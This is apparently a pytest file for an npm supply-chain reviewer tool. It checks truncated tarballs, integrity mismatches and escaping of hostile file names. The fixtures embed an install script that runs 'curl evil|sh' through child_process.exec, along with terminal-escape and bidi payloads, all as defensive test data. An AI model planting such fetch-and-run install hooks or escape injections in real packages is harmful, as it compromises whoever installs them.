"""Hostile tarballs served by the fixture registry: a truncated gzip or tar stream is an
error (npm rejects it too) and never a silently shortened file list; an integrity mismatch
is a HIGH finding naming both full hashes wherever it appears, and fails `--fail-on high`."""

from __future__ import annotations

import gzip
import hashlib
import json
from pathlib import Path

import pytest

from .conftest import PAYLOADS, npm_project, packument, sri, tgz

SCRIPTS = {"postinstall": "node install.js"}


def _files(version: str, install: str = "require('child_process').exec('id')\n") -> dict[str, str]:
    return {"package.json": json.dumps({"name": "t", "version": version, "scripts": SCRIPTS}),
            "index.js": "module.exports = 1;\n" + "// pad\n" * 400, "install.js": install}


def _truncations() -> dict[str, bytes]:
    whole = tgz(_files("1.0.1"))
    raw = gzip.decompress(whole)
    return {
        "gzip-without-end-marker": whole[:-8],
        "gzip-cut-in-half": whole[: len(whole) // 2],
        "tar-cut-before-install.js": gzip.compress(raw[:_offset_of(raw, "install.js")], mtime=0),
        "tar-cut-inside-a-header": gzip.compress(raw[: _offset_of(raw, "install.js") + 100], mtime=0),
    }


def _offset_of(raw: bytes, name: str) -> int:
    import io
    import tarfile

    with tarfile.open(fileobj=io.BytesIO(raw)) as archive:
        return next(m.offset for m in archive if m.name.endswith(name))


def _serve(registry, old: bytes, new: bytes, new_integrity: str | None = None) -> None:  # noqa: ANN001
    doc = packument("t", {"1.0.0": {"data": old, "scripts": SCRIPTS},
                          "1.0.1": {"data": new, "scripts": SCRIPTS}}, registry.url)
    if new_integrity is not None:
        doc["versions"]["1.0.1"]["dist"]["integrity"] = new_integrity
    registry.add_packument(doc)
    registry.add_tarball("t", "1.0.0", old)
    registry.add_tarball("t", "1.0.1", new)


@pytest.mark.parametrize("cut", list(_truncations()))
def test_truncated_tarball_is_an_error_in_diff(run, fixture_registry, cut: str) -> None:  # noqa: ANN001
    _serve(fixture_registry, tgz(_files("1.0.0")), _truncations()[cut])
    result = run("diff", "t", "1.0.0", "1.0.1", "--registry", fixture_registry.url)
    assert result.code == 2, result.out
    result.assert_clean()
    assert "truncated" in result.err and len(result.err.strip().splitlines()) == 1
    assert "install.js" not in result.out


@pytest.mark.parametrize("cut", list(_truncations()))
def test_truncated_tarball_is_never_scanned_as_complete_in_report(run, fixture_registry,  # noqa: ANN001
                                                                 tmp_path: Path, cut: str) -> None:
    data = _truncations()[cut]
    _serve(fixture_registry, tgz(_files("1.0.0")), data)
    project = npm_project(tmp_path / "app", {"t": {
        "version": "1.0.1", "resolved": fixture_registry.tarball_url("t", "1.0.1"),
        "integrity": sri(data), "hasInstallScript": True}})
    result = run("report", str(project), "--format", "json", "--registry", fixture_registry.url)
    assert result.code == 0, result.err
    result.assert_clean()
    signals = {s["id"]: s for s in json.loads(result.out)["packages"][0]["signals"]}
    code = signals["suspicious-code"]
    assert code["unknown"] and "truncated" in json.dumps(code), code


def test_integrity_mismatch_is_high_with_both_full_hashes(run, fixture_registry,  # noqa: ANN001
                                                         tmp_path: Path) -> None:
    published = tgz(_files("1.0.1"))
    served = tgz(_files("1.0.1", install="require('child_process').exec('curl evil|sh')\n"))
    _serve(fixture_registry, tgz(_files("1.0.0")), served, new_integrity=sri(published))
    expected, actual = sri(published), sri(served)
    project = npm_project(tmp_path / "app", {"t": {
        "version": "1.0.1", "resolved": fixture_registry.tarball_url("t", "1.0.1"),
        "integrity": expected, "hasInstallScript": True}})
    for fmt in ("text", "markdown", "json"):
        result = run("report", str(project), "--format", fmt, "--registry", fixture_registry.url,
                     "--fail-on", "high")
        assert result.code == 1, (fmt, result)
        result.assert_clean()
        flat = result.out.replace("\n", " ")
        assert expected in flat and actual in flat, (fmt, result.out)
        if fmt == "json":
            [mismatch] = [s for s in json.loads(result.out)["packages"][0]["signals"]
                          if s["id"] == "integrity-mismatch"]
            assert mismatch["severity"] == "high" and not mismatch["unknown"]
            assert mismatch["details"] == {"expected": expected, "actual": actual}
    diff = run("diff", "t", "1.0.0", "1.0.1", "--registry", fixture_registry.url)
    assert diff.code == 2 and expected in diff.err and actual in diff.err


def test_shasum_mismatch_names_both_full_hashes(fixture_registry) -> None:  # noqa: ANN001
    from reviewer.errors import IntegrityMismatch
    from reviewer.registry.tarball import verify_integrity

    data = tgz(_files("1.0.0"))
    wrong = "ab" * 20
    with pytest.raises(IntegrityMismatch) as caught:
        verify_integrity(data, None, wrong)
    assert wrong in str(caught.value) and hashlib.sha1(data).hexdigest() in str(caught.value)


def test_hostile_file_names_and_contents_in_tarball(run, fixture_registry) -> None:  # noqa: ANN001
    old = tgz(_files("1.0.0"))
    files = _files("1.0.1", install="exec('" + PAYLOADS["osc52"] + "')\n")
    files["dir" + PAYLOADS["bidi"] + "/x" + PAYLOADS["csi-clear"] + ".js"] = PAYLOADS["hyperlink"]
    _serve(fixture_registry, old, tgz(files))
    result = run("diff", "t", "1.0.0", "1.0.1", "--registry", fixture_registry.url)
    assert result.code == 0, result.err
    result.assert_clean()
    assert "dir\\u202e/x\\x1b[2J\\x1b[H.js" in result.out
